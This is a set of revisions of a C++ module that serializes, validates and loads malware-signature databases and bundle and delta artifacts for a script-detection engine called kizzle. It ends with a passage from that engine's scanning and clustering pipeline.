  std::size_t max_per_family_;
  std::vector<Family> families_;
};

}  // namespace kizzle::core
