#include "core/sigdb.h"

#include <sstream>
#include <stdexcept>

#include "match/pattern.h"
#include "support/strings.h"

namespace kizzle::core {

namespace {
constexpr std::string_view kHeader = "# kizzle-signatures v1";
}

void save_signatures(std::ostream& os,
                     const std::vector<DeployedSignature>& signatures) {
  os << kHeader << '\n';
  for (const DeployedSignature& s : signatures) {
    if (s.name.find_first_of("\t\n") != std::string::npos ||
        s.family.find_first_of("\t\n") != std::string::npos ||
        s.pattern.find_first_of("\t\n") != std::string::npos) {
      throw std::invalid_argument(
          "save_signatures: field contains tab/newline: " + s.name);
    }
    os << s.name << '\t' << s.family << '\t' << s.issued_day << '\t'
       << s.token_length << '\t' << s.pattern << '\n';
  }
}

std::string save_signatures(
    const std::vector<DeployedSignature>& signatures) {
  std::ostringstream os;
  save_signatures(os, signatures);
  return os.str();
}

std::vector<DeployedSignature> load_signatures(std::istream& is) {
  std::string line;
  if (!std::getline(is, line) || trim(line) != kHeader) {
    throw std::runtime_error("load_signatures: missing or bad header");
  }
  std::vector<DeployedSignature> out;
  std::size_t line_no = 1;
  while (std::getline(is, line)) {
    ++line_no;
    if (line.empty() || line[0] == '#') continue;
    const auto fields = split(line, "\t");
    if (fields.size() != 5) {
      throw std::runtime_error("load_signatures: line " +
                               std::to_string(line_no) + ": expected 5 "
                               "tab-separated fields, got " +
                               std::to_string(fields.size()));
    }
    DeployedSignature s;
    s.name = fields[0];
    s.family = fields[1];
    try {
      s.issued_day = std::stoi(fields[2]);
      s.token_length = std::stoul(fields[3]);
    } catch (const std::exception&) {
      throw std::runtime_error("load_signatures: line " +
                               std::to_string(line_no) + ": bad number");
    }
    s.pattern = fields[4];
    try {
      match::Pattern::compile(s.pattern);
    } catch (const match::PatternError& e) {
      throw std::runtime_error("load_signatures: line " +
                               std::to_string(line_no) +
                               ": pattern does not compile: " + e.what());
    }
    out.push_back(std::move(s));
  }
  return out;
}

std::vector<DeployedSignature> load_signatures(const std::string& content) {
  std::istringstream is(content);
  return load_signatures(is);
}

}  // namespace kizzle::core
