#include "core/sigdb.h"

#include <charconv>
#include <sstream>
#include <stdexcept>

#include "match/pattern.h"
#include "support/errors.h"
#include "support/strings.h"

namespace kizzle::core {

namespace {

constexpr std::string_view kHeader = "# kizzle-signatures v1";

// "line 3 (byte 57)" — every InputError from the text loader pins the
// offending line by both coordinates so operators can seek straight to it
// in multi-megabyte databases.
std::string at(std::size_t line_no, std::size_t byte_offset) {
  return "line " + std::to_string(line_no) + " (byte " +
         std::to_string(byte_offset) + ")";
}

// Strict integer field parse: the whole field must be digits (with an
// optional leading '-' for signed targets). std::stoi-style prefix
// parsing accepted "12junk"; from_chars + full-consumption check doesn't.
template <typename T>
bool parse_field(std::string_view field, T& out) {
  const char* first = field.data();
  const char* last = field.data() + field.size();
  const auto [ptr, ec] = std::from_chars(first, last, out);
  return ec == std::errc{} && ptr == last;
}

}  // namespace

void save_signatures(std::ostream& os,
                     const std::vector<DeployedSignature>& signatures) {
  os << kHeader << '\n';
  for (const DeployedSignature& s : signatures) {
    if (s.name.find_first_of("\t\n") != std::string::npos ||
        s.family.find_first_of("\t\n") != std::string::npos ||
        s.pattern.find_first_of("\t\n") != std::string::npos) {
      throw std::invalid_argument(
          "save_signatures: field contains tab/newline: " + s.name);
    }
    os << s.name << '\t' << s.family << '\t' << s.issued_day << '\t'
       << s.token_length << '\t' << s.pattern << '\n';
  }
}

std::string save_signatures(
    const std::vector<DeployedSignature>& signatures) {
  std::ostringstream os;
  save_signatures(os, signatures);
  return os.str();
}

std::vector<DeployedSignature> load_signatures(std::istream& is,
                                               bool validate_patterns) {
  std::string line;
  if (!std::getline(is, line) || trim(line) != kHeader) {
    throw InputError("load_signatures: missing or bad header");
  }
  std::vector<DeployedSignature> out;
  std::size_t line_no = 1;
  // Byte offset of the start of the current line ('\n' included per line).
  std::size_t offset = line.size() + 1;
  while (std::getline(is, line)) {
    ++line_no;
    const std::size_t line_start = offset;
    offset += line.size() + 1;
    if (line.size() > kMaxSignatureLineBytes) {
      throw ResourceError("load_signatures: " + at(line_no, line_start) +
                          ": line of " + std::to_string(line.size()) +
                          " bytes exceeds the " +
                          std::to_string(kMaxSignatureLineBytes) +
                          "-byte cap");
    }
    if (line.empty() || line[0] == '#') continue;
    if (out.size() >= kMaxSignatureCount) {
      throw ResourceError("load_signatures: " + at(line_no, line_start) +
                          ": signature count exceeds the cap of " +
                          std::to_string(kMaxSignatureCount));
    }
    const auto fields = split(line, "\t");
    if (fields.size() != 5) {
      throw InputError("load_signatures: " + at(line_no, line_start) +
                       ": expected 5 tab-separated fields, got " +
                       std::to_string(fields.size()));
    }
    DeployedSignature s;
    s.name = fields[0];
    s.family = fields[1];
    if (!parse_field(fields[2], s.issued_day) ||
        !parse_field(fields[3], s.token_length)) {
      throw InputError("load_signatures: " + at(line_no, line_start) +
                       ": bad number");
    }
    s.pattern = fields[4];
    if (validate_patterns) {
      try {
        match::Pattern::compile(s.pattern);
      } catch (const match::PatternError& e) {
        throw InputError("load_signatures: " + at(line_no, line_start) +
                         ": pattern does not compile: " + e.what());
      }
    }
    out.push_back(std::move(s));
  }
  return out;
}

std::vector<DeployedSignature> load_signatures(const std::string& content) {
  std::istringstream is(content);
  return load_signatures(is);
}

// ---------------------------- bundle artifact ----------------------------

namespace {

constexpr std::uint32_t kArtifactEndianSentinel = 0x01020304u;

template <typename T>
void put_raw(std::ostream& os, T v) {
  os.write(reinterpret_cast<const char*>(&v), sizeof v);
}

template <typename T>
T get_raw(std::istream& is) {
  T v;
  is.read(reinterpret_cast<char*>(&v), sizeof v);
  if (!is) throw ArtifactError("load_artifact: truncated artifact");
  return v;
}

}  // namespace

void save_artifact(std::ostream& os,
                   const std::vector<DeployedSignature>& signatures,
                   const match::LiteralPrefilter* prebuilt) {
  match::LiteralPrefilter local;
  if (prebuilt == nullptr) {
    for (std::size_t i = 0; i < signatures.size(); ++i) {
      local.add(i,
                match::Pattern::compile(signatures[i].pattern)
                    .required_literal());
    }
    local.build();
    prebuilt = &local;
  }
  if (!prebuilt->built() || prebuilt->id_count() != signatures.size()) {
    throw std::invalid_argument(
        "save_artifact: prefilter does not cover the signature set");
  }
  os.write(kArtifactMagic.data(),
           static_cast<std::streamsize>(kArtifactMagic.size()));
  put_raw<std::uint32_t>(os, kArtifactVersion);
  put_raw<std::uint32_t>(os, kArtifactEndianSentinel);
  const std::string db = save_signatures(signatures);
  put_raw<std::uint64_t>(os, db.size());
  os.write(db.data(), static_cast<std::streamsize>(db.size()));
  prebuilt->serialize(os);
  if (!os) throw std::runtime_error("save_artifact: write failed");
}

namespace {

// Cap on the embedded text database. Tighter than the old 4 GiB check:
// kMaxSignatureCount lines of kMaxSignatureLineBytes is the most the text
// loader would accept anyway, so anything larger is rejected before the
// buffer for it is allocated.
constexpr std::uint64_t kMaxEmbeddedDbBytes = 1ull << 30;  // 1 GiB

}  // namespace

BundleArtifact load_artifact(std::istream& is, bool validate_patterns) {
  char magic[8];
  is.read(magic, sizeof magic);
  if (!is || std::string_view(magic, sizeof magic) != kArtifactMagic) {
    throw ArtifactError("load_artifact: bad magic");
  }
  const auto version = get_raw<std::uint32_t>(is);
  if (version != kArtifactVersion) {
    throw ArtifactError("load_artifact: unsupported format version " +
                        std::to_string(version));
  }
  const auto endian = get_raw<std::uint32_t>(is);
  if (endian != kArtifactEndianSentinel) {
    throw ArtifactError(
        "load_artifact: artifact endianness does not match this host");
  }
  const auto db_len = get_raw<std::uint64_t>(is);
  if (db_len > kMaxEmbeddedDbBytes) {
    throw ResourceError(
        "load_artifact: declared database size " + std::to_string(db_len) +
        " exceeds the " + std::to_string(kMaxEmbeddedDbBytes) + "-byte cap");
  }
  std::string db(static_cast<std::size_t>(db_len), '\0');
  is.read(db.data(), static_cast<std::streamsize>(db.size()));
  if (!is) throw ArtifactError("load_artifact: truncated artifact");

  BundleArtifact out;
  std::istringstream db_is(db);
  out.signatures = load_signatures(db_is, validate_patterns);
  out.prefilter = match::LiteralPrefilter::load(is);
  if (out.prefilter.id_count() != out.signatures.size()) {
    throw ArtifactError(
        "load_artifact: prefilter id count disagrees with signature list");
  }
  return out;
}

}  // namespace kizzle::core
