#include "core/sigdb.h"

#include <algorithm>
#include <charconv>
#include <cstring>
#include <sstream>
#include <stdexcept>

#include "match/pattern.h"
#include "support/errors.h"
#include "support/strings.h"

namespace kizzle::core {

namespace {

constexpr std::string_view kHeader = "# kizzle-signatures v1";

// "line 3 (byte 57)" — every InputError from the text loader pins the
// offending line by both coordinates so operators can seek straight to it
// in multi-megabyte databases.
std::string at(std::size_t line_no, std::size_t byte_offset) {
  return "line " + std::to_string(line_no) + " (byte " +
         std::to_string(byte_offset) + ")";
}

// Strict integer field parse: the whole field must be digits (with an
// optional leading '-' for signed targets). std::stoi-style prefix
// parsing accepted "12junk"; from_chars + full-consumption check doesn't.
template <typename T>
bool parse_field(std::string_view field, T& out) {
  const char* first = field.data();
  const char* last = field.data() + field.size();
  const auto [ptr, ec] = std::from_chars(first, last, out);
  return ec == std::errc{} && ptr == last;
}

}  // namespace

void save_signatures(std::ostream& os,
                     const std::vector<DeployedSignature>& signatures) {
  os << kHeader << '\n';
  for (const DeployedSignature& s : signatures) {
    if (s.name.find_first_of("\t\n") != std::string::npos ||
        s.family.find_first_of("\t\n") != std::string::npos ||
        s.pattern.find_first_of("\t\n") != std::string::npos) {
      throw std::invalid_argument(
          "save_signatures: field contains tab/newline: " + s.name);
    }
    os << s.name << '\t' << s.family << '\t' << s.issued_day << '\t'
       << s.token_length << '\t' << s.pattern << '\n';
  }
}

std::string save_signatures(
    const std::vector<DeployedSignature>& signatures) {
  std::ostringstream os;
  save_signatures(os, signatures);
  return os.str();
}

std::vector<DeployedSignature> load_signatures(std::istream& is,
                                               bool validate_patterns) {
  std::string line;
  if (!std::getline(is, line) || trim(line) != kHeader) {
    throw InputError("load_signatures: missing or bad header");
  }
  std::vector<DeployedSignature> out;
  std::size_t line_no = 1;
  // Byte offset of the start of the current line ('\n' included per line).
  std::size_t offset = line.size() + 1;
  while (std::getline(is, line)) {
    ++line_no;
    const std::size_t line_start = offset;
    offset += line.size() + 1;
    if (line.size() > kMaxSignatureLineBytes) {
      throw ResourceError("load_signatures: " + at(line_no, line_start) +
                          ": line of " + std::to_string(line.size()) +
                          " bytes exceeds the " +
                          std::to_string(kMaxSignatureLineBytes) +
                          "-byte cap");
    }
    if (line.empty() || line[0] == '#') continue;
    if (out.size() >= kMaxSignatureCount) {
      throw ResourceError("load_signatures: " + at(line_no, line_start) +
                          ": signature count exceeds the cap of " +
                          std::to_string(kMaxSignatureCount));
    }
    const auto fields = split(line, "\t");
    if (fields.size() != 5) {
      throw InputError("load_signatures: " + at(line_no, line_start) +
                       ": expected 5 tab-separated fields, got " +
                       std::to_string(fields.size()));
    }
    DeployedSignature s;
    s.name = fields[0];
    s.family = fields[1];
    if (!parse_field(fields[2], s.issued_day) ||
        !parse_field(fields[3], s.token_length)) {
      throw InputError("load_signatures: " + at(line_no, line_start) +
                       ": bad number");
    }
    s.pattern = fields[4];
    if (validate_patterns) {
      try {
        match::Pattern::compile(s.pattern);
      } catch (const match::PatternError& e) {
        throw InputError("load_signatures: " + at(line_no, line_start) +
                         ": pattern does not compile: " + e.what());
      }
    }
    out.push_back(std::move(s));
  }
  return out;
}

std::vector<DeployedSignature> load_signatures(const std::string& content) {
  std::istringstream is(content);
  return load_signatures(is);
}

// ---------------------------- bundle artifact ----------------------------

namespace {

constexpr std::uint32_t kArtifactEndianSentinel = 0x01020304u;

// Fixed bundle header: magic(8) + version(4) + endian(4) + db_len(8).
constexpr std::size_t kBundleHeaderBytes = 24;
// Section alignment of the prefilter v2 blob; the v2 bundle zero-pads the
// embedded text database so the blob starts on this boundary relative to
// the artifact start (and hence, for a mapped file, in memory).
constexpr std::size_t kBundleAlign = 64;

template <typename T>
void put_raw(std::ostream& os, T v) {
  os.write(reinterpret_cast<const char*>(&v), sizeof v);
}

template <typename T>
T get_raw(std::istream& is) {
  T v;
  is.read(reinterpret_cast<char*>(&v), sizeof v);
  if (!is) throw ArtifactError("load_artifact: truncated artifact");
  return v;
}

// Cap on the embedded text database. Tighter than the old 4 GiB check:
// kMaxSignatureCount lines of kMaxSignatureLineBytes is the most the text
// loader would accept anyway, so anything larger is rejected before the
// buffer for it is allocated.
constexpr std::uint64_t kMaxEmbeddedDbBytes = 1ull << 30;  // 1 GiB

std::size_t bundle_pad(std::uint64_t db_len) {
  const std::uint64_t end = kBundleHeaderBytes + db_len;
  return static_cast<std::size_t>((kBundleAlign - end % kBundleAlign) %
                                  kBundleAlign);
}

}  // namespace

void save_artifact(std::ostream& os,
                   const std::vector<DeployedSignature>& signatures,
                   const match::LiteralPrefilter* prebuilt,
                   std::uint32_t version) {
  if (version != 1 && version != 2) {
    throw std::invalid_argument("save_artifact: unsupported version " +
                                std::to_string(version));
  }
  match::LiteralPrefilter local;
  if (prebuilt == nullptr) {
    for (std::size_t i = 0; i < signatures.size(); ++i) {
      local.add(i,
                match::Pattern::compile(signatures[i].pattern)
                    .required_literal());
    }
    local.build();
    prebuilt = &local;
  }
  if (!prebuilt->built() || prebuilt->id_count() != signatures.size()) {
    throw std::invalid_argument(
        "save_artifact: prefilter does not cover the signature set");
  }
  os.write(kArtifactMagic.data(),
           static_cast<std::streamsize>(kArtifactMagic.size()));
  put_raw<std::uint32_t>(os, version);
  put_raw<std::uint32_t>(os, kArtifactEndianSentinel);
  const std::string db = save_signatures(signatures);
  put_raw<std::uint64_t>(os, db.size());
  os.write(db.data(), static_cast<std::streamsize>(db.size()));
  if (version == 2) {
    // Zero pad so the prefilter blob starts 64-byte aligned relative to
    // the artifact start; load_artifact(span) relies on this to hand the
    // blob's table sections out as views into a mapped file.
    static constexpr char zeros[kBundleAlign] = {};
    os.write(zeros, static_cast<std::streamsize>(bundle_pad(db.size())));
  }
  prebuilt->serialize(os, version);
  if (!os) throw std::runtime_error("save_artifact: write failed");
}

namespace {

BundleArtifact finish_artifact(std::vector<DeployedSignature> signatures,
                               match::LiteralPrefilter prefilter) {
  if (prefilter.id_count() != signatures.size()) {
    throw ArtifactError(
        "load_artifact: prefilter id count disagrees with signature list");
  }
  BundleArtifact out;
  out.signatures = std::move(signatures);
  out.prefilter = std::move(prefilter);
  return out;
}

}  // namespace

BundleArtifact load_artifact(std::istream& is, bool validate_patterns) {
  char magic[8];
  is.read(magic, sizeof magic);
  if (!is || std::string_view(magic, sizeof magic) != kArtifactMagic) {
    throw ArtifactError("load_artifact: bad magic");
  }
  const auto version = get_raw<std::uint32_t>(is);
  if (version != 1 && version != 2) {
    throw ArtifactError("load_artifact: unsupported format version " +
                        std::to_string(version));
  }
  const auto endian = get_raw<std::uint32_t>(is);
  if (endian != kArtifactEndianSentinel) {
    throw ArtifactError(
        "load_artifact: artifact endianness does not match this host");
  }
  const auto db_len = get_raw<std::uint64_t>(is);
  if (db_len > kMaxEmbeddedDbBytes) {
    throw ResourceError(
        "load_artifact: declared database size " + std::to_string(db_len) +
        " exceeds the " + std::to_string(kMaxEmbeddedDbBytes) + "-byte cap");
  }
  std::string db(static_cast<std::size_t>(db_len), '\0');
  is.read(db.data(), static_cast<std::streamsize>(db.size()));
  if (!is) throw ArtifactError("load_artifact: truncated artifact");
  if (version == 2) {
    char pad[kBundleAlign];
    is.read(pad, static_cast<std::streamsize>(bundle_pad(db_len)));
    if (!is) throw ArtifactError("load_artifact: truncated artifact");
  }

  std::istringstream db_is(db);
  std::vector<DeployedSignature> signatures =
      load_signatures(db_is, validate_patterns);
  return finish_artifact(std::move(signatures),
                         match::LiteralPrefilter::load(is));
}

BundleArtifact load_artifact(std::span<const std::byte> blob,
                             bool validate_patterns) {
  if (blob.size() < kBundleHeaderBytes) {
    throw ArtifactError("load_artifact: truncated artifact");
  }
  if (std::memcmp(blob.data(), kArtifactMagic.data(), kArtifactMagic.size()) !=
      0) {
    throw ArtifactError("load_artifact: bad magic");
  }
  std::uint32_t version = 0;
  std::uint32_t endian = 0;
  std::uint64_t db_len = 0;
  std::memcpy(&version, blob.data() + 8, 4);
  std::memcpy(&endian, blob.data() + 12, 4);
  std::memcpy(&db_len, blob.data() + 16, 8);
  if (version == 1) {
    // Legacy layout has unaligned, field-granular table serialization; no
    // zero-copy path exists for it. Replay through the stream loader.
    std::istringstream is(
        std::string(reinterpret_cast<const char*>(blob.data()), blob.size()));
    return load_artifact(is, validate_patterns);
  }
  if (version != 2) {
    throw ArtifactError("load_artifact: unsupported format version " +
                        std::to_string(version));
  }
  if (endian != kArtifactEndianSentinel) {
    throw ArtifactError(
        "load_artifact: artifact endianness does not match this host");
  }
  if (db_len > kMaxEmbeddedDbBytes) {
    throw ResourceError(
        "load_artifact: declared database size " + std::to_string(db_len) +
        " exceeds the " + std::to_string(kMaxEmbeddedDbBytes) + "-byte cap");
  }
  const std::uint64_t blob_off =
      kBundleHeaderBytes + db_len + bundle_pad(db_len);
  if (blob_off > blob.size()) {
    throw ArtifactError("load_artifact: truncated artifact");
  }

  std::istringstream db_is(std::string(
      reinterpret_cast<const char*>(blob.data()) + kBundleHeaderBytes,
      static_cast<std::size_t>(db_len)));
  std::vector<DeployedSignature> signatures =
      load_signatures(db_is, validate_patterns);
  return finish_artifact(
      std::move(signatures),
      match::LiteralPrefilter::load(
          blob.subspan(static_cast<std::size_t>(blob_off))));
}

// ---------------------------- delta artifact -----------------------------

void fingerprint_mix(std::uint64_t& sum, std::string_view name,
                     std::string_view family, std::string_view pattern) {
  const auto field = [&sum](std::string_view s) {
    const std::uint64_t len = s.size();
    checksum_update(sum, &len, sizeof len);
    checksum_update(sum, s.data(), s.size());
  };
  field(name);
  field(family);
  field(pattern);
}

void fingerprint_retire(std::uint64_t& sum,
                        std::span<const std::uint64_t> retired) {
  const std::uint64_t n = retired.size();
  checksum_update(sum, &n, sizeof n);
  for (const std::uint64_t idx : retired) {
    checksum_update(sum, &idx, sizeof idx);
  }
}

std::uint64_t fingerprint(const std::vector<DeployedSignature>& signatures,
                          std::span<const std::uint64_t> retired) {
  std::uint64_t sum = kFingerprintBasis;
  const std::uint64_t n = signatures.size();
  checksum_update(sum, &n, sizeof n);
  for (const DeployedSignature& s : signatures) {
    fingerprint_mix(sum, s.name, s.family, s.pattern);
  }
  fingerprint_retire(sum, retired);
  return sum;
}

namespace {

// A delta's payload is bounded by what its parts could legitimately be:
// an embedded text database plus a retired-index list no longer than the
// signature cap.
constexpr std::uint64_t kMaxDeltaPayloadBytes =
    kMaxEmbeddedDbBytes + 8ull * kMaxSignatureCount + 64;

void check_retired_ascending(std::span<const std::uint64_t> retired,
                             const char* who) {
  for (std::size_t i = 1; i < retired.size(); ++i) {
    if (retired[i] <= retired[i - 1]) {
      throw ArtifactError(std::string(who) +
                          ": retired indices not strictly ascending");
    }
  }
}

}  // namespace

void save_delta(std::ostream& os, const DeltaArtifact& delta) {
  check_retired_ascending(delta.retired, "save_delta");
  const std::string db = save_signatures(delta.added);

  std::string payload;
  const auto num = [&payload](std::uint64_t v) {
    payload.append(reinterpret_cast<const char*>(&v), sizeof v);
  };
  num(delta.base_fingerprint);
  num(delta.result_fingerprint);
  num(delta.retired.size());
  for (const std::uint64_t idx : delta.retired) num(idx);
  num(db.size());
  payload.append(db);

  std::uint64_t sum = kChecksumBasis;
  checksum_update(sum, payload.data(), payload.size());

  os.write(kDeltaMagic.data(),
           static_cast<std::streamsize>(kDeltaMagic.size()));
  put_raw<std::uint32_t>(os, kDeltaVersion);
  put_raw<std::uint32_t>(os, kArtifactEndianSentinel);
  put_raw<std::uint64_t>(os, payload.size());
  os.write(payload.data(), static_cast<std::streamsize>(payload.size()));
  put_raw<std::uint64_t>(os, sum);
  if (!os) throw std::runtime_error("save_delta: write failed");
}

DeltaArtifact load_delta(std::istream& is, bool validate_patterns) {
  char magic[8];
  is.read(magic, sizeof magic);
  if (!is || std::string_view(magic, sizeof magic) != kDeltaMagic) {
    throw ArtifactError("load_delta: bad magic");
  }
  const auto version = get_raw<std::uint32_t>(is);
  if (version != kDeltaVersion) {
    throw ArtifactError("load_delta: unsupported format version " +
                        std::to_string(version));
  }
  const auto endian = get_raw<std::uint32_t>(is);
  if (endian != kArtifactEndianSentinel) {
    throw ArtifactError(
        "load_delta: delta endianness does not match this host");
  }
  const auto payload_size = get_raw<std::uint64_t>(is);
  if (payload_size < 3 * 8 + 8 || payload_size > kMaxDeltaPayloadBytes) {
    throw ResourceError("load_delta: implausible payload size " +
                        std::to_string(payload_size));
  }
  std::string payload(static_cast<std::size_t>(payload_size), '\0');
  is.read(payload.data(), static_cast<std::streamsize>(payload.size()));
  if (!is) throw ArtifactError("load_delta: truncated delta");
  const auto declared_sum = get_raw<std::uint64_t>(is);

  // Verify the seal before interpreting a single payload field.
  std::uint64_t sum = kChecksumBasis;
  checksum_update(sum, payload.data(), payload.size());
  if (sum != declared_sum) {
    throw ArtifactError("load_delta: checksum mismatch (corrupt delta)");
  }

  std::size_t pos = 0;
  const auto num = [&payload, &pos]() {
    if (payload.size() - pos < 8) {
      throw ArtifactError("load_delta: truncated payload");
    }
    std::uint64_t v;
    std::memcpy(&v, payload.data() + pos, 8);
    pos += 8;
    return v;
  };
  DeltaArtifact out;
  out.base_fingerprint = num();
  out.result_fingerprint = num();
  const std::uint64_t n_retired = num();
  if (n_retired > kMaxSignatureCount) {
    throw ResourceError("load_delta: retired count " +
                        std::to_string(n_retired) + " exceeds the cap of " +
                        std::to_string(kMaxSignatureCount));
  }
  if (payload.size() - pos < n_retired * 8) {
    throw ArtifactError("load_delta: truncated payload");
  }
  out.retired.resize(static_cast<std::size_t>(n_retired));
  for (std::uint64_t& idx : out.retired) idx = num();
  check_retired_ascending(out.retired, "load_delta");
  const std::uint64_t db_len = num();
  if (db_len != payload.size() - pos) {
    throw ArtifactError(
        "load_delta: embedded database length disagrees with payload size");
  }
  std::istringstream db_is(payload.substr(pos));
  out.added = load_signatures(db_is, validate_patterns);
  return out;
}

}  // namespace kizzle::core
