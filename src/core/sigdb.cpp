#include "core/sigdb.h"

#include <sstream>
#include <stdexcept>

#include "match/pattern.h"
#include "support/strings.h"

namespace kizzle::core {

namespace {
constexpr std::string_view kHeader = "# kizzle-signatures v1";
}

void save_signatures(std::ostream& os,
                     const std::vector<DeployedSignature>& signatures) {
  os << kHeader << '\n';
  for (const DeployedSignature& s : signatures) {
    if (s.name.find_first_of("\t\n") != std::string::npos ||
        s.family.find_first_of("\t\n") != std::string::npos ||
        s.pattern.find_first_of("\t\n") != std::string::npos) {
      throw std::invalid_argument(
          "save_signatures: field contains tab/newline: " + s.name);
    }
    os << s.name << '\t' << s.family << '\t' << s.issued_day << '\t'
       << s.token_length << '\t' << s.pattern << '\n';
  }
}

std::string save_signatures(
    const std::vector<DeployedSignature>& signatures) {
  std::ostringstream os;
  save_signatures(os, signatures);
  return os.str();
}

std::vector<DeployedSignature> load_signatures(std::istream& is,
                                               bool validate_patterns) {
  std::string line;
  if (!std::getline(is, line) || trim(line) != kHeader) {
    throw std::runtime_error("load_signatures: missing or bad header");
  }
  std::vector<DeployedSignature> out;
  std::size_t line_no = 1;
  while (std::getline(is, line)) {
    ++line_no;
    if (line.empty() || line[0] == '#') continue;
    const auto fields = split(line, "\t");
    if (fields.size() != 5) {
      throw std::runtime_error("load_signatures: line " +
                               std::to_string(line_no) + ": expected 5 "
                               "tab-separated fields, got " +
                               std::to_string(fields.size()));
    }
    DeployedSignature s;
    s.name = fields[0];
    s.family = fields[1];
    try {
      s.issued_day = std::stoi(fields[2]);
      s.token_length = std::stoul(fields[3]);
    } catch (const std::exception&) {
      throw std::runtime_error("load_signatures: line " +
                               std::to_string(line_no) + ": bad number");
    }
    s.pattern = fields[4];
    if (validate_patterns) {
      try {
        match::Pattern::compile(s.pattern);
      } catch (const match::PatternError& e) {
        throw std::runtime_error("load_signatures: line " +
                                 std::to_string(line_no) +
                                 ": pattern does not compile: " + e.what());
      }
    }
    out.push_back(std::move(s));
  }
  return out;
}

std::vector<DeployedSignature> load_signatures(const std::string& content) {
  std::istringstream is(content);
  return load_signatures(is);
}

// ---------------------------- bundle artifact ----------------------------

namespace {

constexpr std::uint32_t kArtifactEndianSentinel = 0x01020304u;

template <typename T>
void put_raw(std::ostream& os, T v) {
  os.write(reinterpret_cast<const char*>(&v), sizeof v);
}

template <typename T>
T get_raw(std::istream& is) {
  T v;
  is.read(reinterpret_cast<char*>(&v), sizeof v);
  if (!is) throw std::runtime_error("load_artifact: truncated artifact");
  return v;
}

}  // namespace

void save_artifact(std::ostream& os,
                   const std::vector<DeployedSignature>& signatures,
                   const match::LiteralPrefilter* prebuilt) {
  match::LiteralPrefilter local;
  if (prebuilt == nullptr) {
    for (std::size_t i = 0; i < signatures.size(); ++i) {
      local.add(i,
                match::Pattern::compile(signatures[i].pattern)
                    .required_literal());
    }
    local.build();
    prebuilt = &local;
  }
  if (!prebuilt->built() || prebuilt->id_count() != signatures.size()) {
    throw std::invalid_argument(
        "save_artifact: prefilter does not cover the signature set");
  }
  os.write(kArtifactMagic.data(),
           static_cast<std::streamsize>(kArtifactMagic.size()));
  put_raw<std::uint32_t>(os, kArtifactVersion);
  put_raw<std::uint32_t>(os, kArtifactEndianSentinel);
  const std::string db = save_signatures(signatures);
  put_raw<std::uint64_t>(os, db.size());
  os.write(db.data(), static_cast<std::streamsize>(db.size()));
  prebuilt->serialize(os);
  if (!os) throw std::runtime_error("save_artifact: write failed");
}

BundleArtifact load_artifact(std::istream& is, bool validate_patterns) {
  char magic[8];
  is.read(magic, sizeof magic);
  if (!is || std::string_view(magic, sizeof magic) != kArtifactMagic) {
    throw std::runtime_error("load_artifact: bad magic");
  }
  const auto version = get_raw<std::uint32_t>(is);
  if (version != kArtifactVersion) {
    throw std::runtime_error("load_artifact: unsupported format version " +
                             std::to_string(version));
  }
  const auto endian = get_raw<std::uint32_t>(is);
  if (endian != kArtifactEndianSentinel) {
    throw std::runtime_error(
        "load_artifact: artifact endianness does not match this host");
  }
  const auto db_len = get_raw<std::uint64_t>(is);
  if (db_len > (1ull << 32)) {
    throw std::runtime_error("load_artifact: implausible database size");
  }
  std::string db(static_cast<std::size_t>(db_len), '\0');
  is.read(db.data(), static_cast<std::streamsize>(db.size()));
  if (!is) throw std::runtime_error("load_artifact: truncated artifact");

  BundleArtifact out;
  std::istringstream db_is(db);
  out.signatures = load_signatures(db_is, validate_patterns);
  out.prefilter = match::LiteralPrefilter::load(is);
  if (out.prefilter.id_count() != out.signatures.size()) {
    throw std::runtime_error(
        "load_artifact: prefilter id count disagrees with signature list");
  }
  return out;
}

}  // namespace kizzle::core
