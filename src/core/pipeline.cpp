#include "core/pipeline.h"

#include <algorithm>
#include <chrono>
#include <unordered_map>

#include "core/sigdb.h"
#include "support/hash.h"
#include "text/html.h"
#include "text/lexer.h"
#include "text/normalize.h"
#include "unpack/unpackers.h"

namespace kizzle::core {

KizzlePipeline::KizzlePipeline(PipelineConfig cfg, std::uint64_t seed)
    : cfg_(cfg),
      rng_(seed),
      corpus_(cfg.winnow, cfg.corpus_max_per_family) {}

void KizzlePipeline::seed_family(const std::string& family, double threshold,
                                 const std::string& unpacked_payload) {
  corpus_.add_family(family, threshold);
  corpus_.add_sample(family, text::normalize_js(unpacked_payload));
}

std::optional<std::size_t> KizzlePipeline::scan(
    std::string_view normalized_text) const {
  if (compiled_.empty()) return std::nullopt;
  // Candidates arrive in ascending index order == issue order, so the
  // first confirmed candidate is the first-match answer. The buffer is
  // reused per thread: coverage checks scan every cluster sample.
  thread_local std::vector<std::size_t> candidates;
  sig_prefilter_.candidates_into(normalized_text, candidates);
  for (const std::size_t i : candidates) {
    if (compiled_[i].search(normalized_text).matched) return i;
  }
  return std::nullopt;
}

std::optional<std::size_t> KizzlePipeline::scan_as_of(
    std::string_view normalized_text, int day, bool include_same_day) const {
  if (compiled_.empty()) return std::nullopt;
  thread_local std::vector<std::size_t> candidates;
  sig_prefilter_.candidates_into(normalized_text, candidates);
  for (const std::size_t i : candidates) {
    const int issued = signatures_[i].issued_day;
    if (issued > day || (issued == day && !include_same_day)) continue;
    if (compiled_[i].search(normalized_text).matched) return i;
  }
  return std::nullopt;
}

void KizzlePipeline::export_artifact(std::ostream& os) const {
  if (sig_prefilter_.built()) {
    // The automaton maintained across deployments is the release build.
    save_artifact(os, signatures_, &sig_prefilter_);
    return;
  }
  // No signature deployed yet (the prefilter was never built): let
  // save_artifact compile an empty-but-valid automaton.
  save_artifact(os, signatures_, nullptr);
}

std::size_t KizzlePipeline::cluster_medoid(
    const std::vector<std::size_t>& members,
    const std::vector<std::vector<std::uint32_t>>& streams) {
  if (members.size() == 1) return members[0];
  constexpr std::size_t kCap = 16;
  const std::size_t m = std::min(members.size(), kCap);
  std::size_t best = members[0];
  double best_total = 0.0;
  for (std::size_t i = 0; i < m; ++i) {
    double total = 0.0;
    for (std::size_t j = 0; j < m; ++j) {
      if (i == j) continue;
      total += dist::normalized_edit_distance(streams[members[i]],
                                              streams[members[j]]);
    }
    if (i == 0 || total < best_total) {
      best_total = total;
      best = members[i];
    }
  }
  return best;
}

DayReport KizzlePipeline::process_day(
    int day, const std::vector<std::string>& html_docs) {
  const auto t0 = std::chrono::steady_clock::now();
  DayReport report;
  report.day = day;
  report.n_samples = html_docs.size();

  // ---- Tokenize and abstract every sample. ----
  std::vector<SampleData> data(html_docs.size());
  for (std::size_t i = 0; i < html_docs.size(); ++i) {
    const std::string script = text::inline_script_text(html_docs[i]);
    data[i].tokens = text::lex(script, text::LexOptions{.tolerant = true});
    data[i].stream =
